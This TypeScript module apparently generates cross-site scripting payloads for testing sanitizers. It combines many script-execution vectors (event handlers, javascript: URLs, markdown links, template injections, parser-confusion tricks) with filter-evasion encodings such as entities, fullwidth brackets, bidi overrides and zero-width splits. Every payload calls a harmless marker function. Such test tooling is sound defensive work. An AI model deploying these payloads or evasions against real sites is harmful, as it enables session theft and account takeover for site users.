import { randomFrom } from "./random.ts";

/** What ends the place a text may stand in: an attribute, an element, a comment, a script, a template. */
const ENDS = [
  "",
  '"',
  "'",
  '">',
  "'>",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "</noscript>",
  "-->",
  "]]>",
  "`",
  "}",
  "&quot;>",
  "\n\n",
] as const;

type Vector = (call: string) => string;

/** Ways to have a script run; `call` is what it would do. */
const VECTORS: readonly Vector[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<SCRIPT>${call}</SCRIPT >`,
  (call) => `<script\n>${call}</script\n>`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</script>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img src=x onerror="${call}"`,
  (call) => `<IMG SRC=x OnErRoR=${call}>`,
  (call) => `<img/src=x/onerror=${call}>`,
  (call) => `<img src=x\tonerror\t=\t${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=9>a</text></a></svg>`,
  (call) => `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  (call) => `<body onload=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => ` autofocus onfocus=${call} x=`,
  (call) => ` onmouseover=${call} `,
  (call) => `<marquee onstart=${call}>a</marquee>`,
  (call) => `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe src="javascript:parent.${call}">`,
  (call) => `<object data="javascript:${call}">`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<form action="javascript:${call}"><button>a</button></form>`,
  (call) => `<a href="javascript:${call}">a</a>`,
  (call) => `<a href="&#106;avascript:${call}">a</a>`,
  (call) => `<a href="java&Tab;script:${call}">a</a>`,
  (call) => `<base href="javascript:/a/-${call}//">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<link rel=stylesheet href="data:text/css,*{}" onload=${call}>`,
  (call) => `<math><mtext><mglyph><style><img src=x onerror=${call}>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<svg></p><style><g title="</style><img src=x onerror=${call}>">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  (call) => `<table><td><a id="</td><img src=x onerror=${call}>">`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<x-y is=z onclick=${call} tabindex=1>`,
  (call) => `<isindex type=image src=1 onerror=${call}>`,
  (call) => `[a](javascript:${call})`,
  (call) => `[a](JaVaScRiPt:${call})`,
  (call) => `[a](java\tscript:${call})`,
  (call) => `[a](&#x6A;avascript:${call})`,
  (call) => `[a](data:text/html,<script>${call}</script>)`,
  (call) => `[a](vbscript:${call})`,
  (call) => `[a](https://x.example/"onmouseover=${call})`,
  (call) => `![a](x"onerror="${call})`,
  (call) => `![a](javascript:${call})`,
  (call) => `<javascript:${call}>`,
  (call) => `[a]: javascript:${call}\n\n[a]`,
  (call) => `**<img src=x onerror=${call}>**`,
  (call) => `\`<img src=x onerror=${call}>\``,
  (call) => `# <svg onload=${call}>`,
  (call) => `- <svg onload=${call}>`,
  (call) => `> <svg onload=${call}>`,
  (call) => `https://x.example/<script>${call}</script>`,
  (call) => `https://x.example/?q="onclick="${call}`,
  (call) => `javascript:${call}`,
  (call) => `javascript://x.example/%0A${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `\${${call}}`,
  (call) => `{{${call}}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `<%= ${call} %>`,
  (call) => `#{${call}}`,
  (call) => `';${call};//`,
  (call) => `";${call};//`,
  (call) => `\\";${call};//`,
  (call) => `</script><script>${call}//`,
  (call) => `<!--<script>${call}-->`,
  (call) => `<![CDATA[<script>${call}</script>]]>`,
  (call) => `<?xml version="1.0"?><script>${call}</script>`,
];

/** How it may be written so that what looks for it does not see it. */
const GUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text,
  (text) => text,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&#60;"),
  (text) => text.replaceAll("<", "&#x3c"),
  (text) => text.replaceAll("<", "\\u003c"),
  (text) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  // Written from right to left, and with what shows nothing.
  (text) => `\u202e${text}\u202c`,
  (text) => `\u2067${text}\u2069`,
  (text) => `\u200f${text}`,
  (text) => text.replaceAll("script", "scr\u200bipt"),
  (text) => `\u2028${text}`,
];

/** What every payload would do, with its number, where it is taken for anything but text. */
export const CALL = "hit";

/** As many as asked for, no two alike, that follow from the seed; the first are the plain vectors. */
export function scriptPayloads(count = 200, seed = 1): readonly string[] {
  const random = randomFrom(seed);
  const payloads = new Set<string>();
  for (let nth = 0; payloads.size < count; nth += 1) {
    const call = `${CALL}(${payloads.size})`;
    const vector = VECTORS[nth % VECTORS.length] ?? VECTORS[0];
    const plain = vector?.(call) ?? "";
    const isPlain = nth < VECTORS.length;
    payloads.add(isPlain ? plain : random.pick(GUISES)(random.pick(ENDS) + plain));
  }
  return [...payloads];
}

/** Deals payloads out, one after another, cut to what fits: every one comes up in the end. */
export class Dealer {
  readonly #payloads: readonly string[];
  #next = 0;

  constructor(payloads: readonly string[]) {
    this.#payloads = payloads;
  }

  /** The next that fits; one cut short, where none does. Never blank. */
  one(most = 4_000): string {
    const count = this.#payloads.length;
    for (let tried = 0; tried < count; tried += 1) {
      const payload = this.#payloads[(this.#next + tried) % count] ?? "";
      if (payload.trim().length > most) continue;
      this.#next = (this.#next + tried + 1) % count;
      return payload.trim();
    }
    this.#next = (this.#next + 1) % count;
    return (this.#payloads[this.#next] ?? "").trim().slice(0, most);
  }

  many(count: number, most?: number): readonly string[] {
    return Array.from({ length: count }, () => this.one(most));
  }
}
